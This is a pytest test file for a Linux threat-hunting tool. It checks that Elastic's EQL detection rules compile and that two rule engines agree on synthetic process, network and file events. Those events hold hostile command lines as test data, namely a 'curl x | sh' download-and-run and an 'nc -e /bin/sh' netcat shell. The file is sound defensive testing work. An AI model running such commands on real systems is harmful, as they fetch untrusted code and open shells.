"""Elastic's Linux EQL rules (../shared/corpus, Elastic License 2.0, test data only): how many
compile, the generated compatibility page, and every rule run by both engines."""

from __future__ import annotations

from pathlib import Path

import duckdb
import pytest

from doorhunt.rules.engine import StreamingEngine, run_hunt
from doorhunt.rules.engine.compat import (
    CorpusReport,
    CorpusRule,
    build_report,
    load_corpus,
    render,
)
from tests.conftest import unavailable
from tests.rules.helpers import doc, hunt_relation, load_table

REPO = Path(__file__).resolve().parents[2]
CORPUS = REPO.parent / "shared" / "corpus" / "elastic-linux-eql.jsonl"
PAGE = REPO / "docs" / "eql-compatibility.md"

# Pinned: a change in what compiles must be a visible decision.
TOTAL = 295
COMPILED = 295
SQL = 295
EQL_PACKAGE_ACCEPTS = 274
KINDS = {"event": 230, "sequence": 62, "sample": 3}


@pytest.fixture(scope="module")
def report() -> CorpusReport:
    if not CORPUS.is_file():
        unavailable(f"the rule corpus is not here ({CORPUS}); it lives beside the repository")
    return build_report(load_corpus(CORPUS))


def test_corpus_counts_are_pinned(report: CorpusReport) -> None:
    assert report.total == TOTAL
    assert len(report.compiled) == COMPILED, [r.error for r in report.failed]
    assert sum(1 for r in report.results if r.compiled and r.sql_error is None) == SQL
    assert report.eql_accepted == EQL_PACKAGE_ACCEPTS
    assert dict(report.kinds()) == KINDS


def test_the_compatibility_page_is_generated(report: CorpusReport) -> None:
    expected = render(report, CORPUS.name)
    assert PAGE.read_text(encoding="utf-8") == expected, (
        "docs/eql-compatibility.md is stale: python -m doorhunt.rules.engine.compat "
        f"{CORPUS} > docs/eql-compatibility.md"
    )


def test_rules_that_do_not_compile_are_counted_and_grouped_by_reason() -> None:
    rules = [
        CorpusRule("good", 'process where process.name == "bash"'),
        CorpusRule("join", "join [process where true] [network where true]"),
        CorpusRule("field to field", "process where process.name == process.parent.name"),
        CorpusRule("another field to field", "process where user.id == user.name"),
    ]
    report = build_report(rules, with_eql=False)
    assert (report.total, len(report.compiled), len(report.failed)) == (4, 1, 3)
    page = render(report, "synthetic.jsonl")
    assert "| compiled by doorhunt (streaming predicates) | 1 |" in page
    reasons = [line for line in page.splitlines() if line.startswith("| ") and "| 2 |" in line]
    assert len(reasons) == 1 and "comparisons against fields are not supported" in reasons[0]
    assert "| another field to field |" in page


def sample_events() -> list[dict[str, object]]:
    base = {"host__id": "h", "host__os__type": "linux", "user__id": "0"}
    return [
        doc(
            "1",
            0,
            "process",
            event__action="exec",
            event__type=["start"],
            process__name="bash",
            process__executable="/bin/bash",
            process__args=["bash", "-c", "curl x | sh"],
            process__command_line="bash -c curl x | sh",
            process__entity_id="A",
            process__parent__name="sshd",
            process__parent__entity_id="P",
            **base,
        ),
        doc(
            "2",
            1,
            "network",
            event__action="connection_attempted",
            event__type=["start"],
            process__name="bash",
            process__entity_id="A",
            destination__ip="203.0.113.9",
            **base,
        ),
        doc(
            "3",
            2,
            "file",
            event__action="creation",
            event__type=["creation"],
            file__path="/dev/shm/.x",
            file__name=".x",
            process__name="bash",
            process__entity_id="A",
            **base,
        ),
        doc(
            "4",
            3,
            "process",
            event__action="exec",
            event__type=["start"],
            process__name="nc",
            process__args=["nc", "-e", "/bin/sh"],
            process__parent__name="bash",
            process__parent__entity_id="A",
            process__entity_id="B",
            **base,
        ),
    ]


def test_every_rule_runs_streaming(report: CorpusReport) -> None:
    engine = StreamingEngine(report.compiled)
    matches = engine.run(sample_events())
    assert engine.stats().events == 4
    assert any(m.rule.kind == "event" for m in matches)


@pytest.mark.slow
def test_every_rule_runs_as_sql_with_the_streaming_results(report: CorpusReport) -> None:
    events = sample_events()
    connection = duckdb.connect()
    load_table(connection, events)
    engine_matches = StreamingEngine(report.compiled).run(events)
    by_rule: dict[str, int] = {}
    for match in engine_matches:
        by_rule[match.rule.name] = by_rule.get(match.rule.name, 0) + 1
    for rule in report.compiled:
        found = run_hunt(connection, rule, relation=hunt_relation())
        assert len(found) == by_rule.get(rule.name, 0), rule.name
